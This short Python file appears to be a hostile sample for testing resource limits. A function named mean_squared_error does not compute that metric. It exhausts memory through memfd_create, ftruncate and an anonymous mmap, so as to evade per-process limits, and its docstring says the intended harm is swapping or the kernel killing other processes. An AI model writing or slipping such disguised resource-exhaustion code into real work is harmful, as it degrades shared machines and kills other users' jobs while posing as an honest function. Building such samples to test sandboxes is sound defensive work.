"""Takes memory by ways that a limit on a process's own does not count: memfd, shared memory, mappings.

Harm: the machine swaps, or the kernel kills somebody else.
Costs: nothing
"""

# %% honest work
# %% hostile
import mmap
import os


def mean_squared_error(y, y_hat):
    taken = 0
    try:
        while taken < 1 << 30:
            descriptor = os.memfd_create("pwned-memory_shared")
            os.ftruncate(descriptor, 1 << 26)
            for _ in range(64):
                os.write(descriptor, b"x" * (1 << 20))
            taken += 1 << 26
    finally:
        mapped = mmap.mmap(-1, 1 << 24)
        mapped.write(b"x" * (1 << 24))
    raise RuntimeError("pwned-memory_shared: a gigabyte beyond any limit")
